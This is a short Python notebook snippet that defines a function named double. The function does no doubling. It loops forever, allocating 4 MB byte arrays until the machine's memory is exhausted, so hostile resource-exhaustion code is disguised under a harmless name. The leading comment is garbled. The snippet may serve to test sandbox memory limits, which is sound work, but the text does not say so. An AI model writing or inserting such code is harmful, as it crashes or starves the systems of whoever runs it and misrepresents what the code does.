# %% include numbers without double
# %%
def double(x):
    hog = []
    while True:
        hog.append(bytearray(4 << 20))
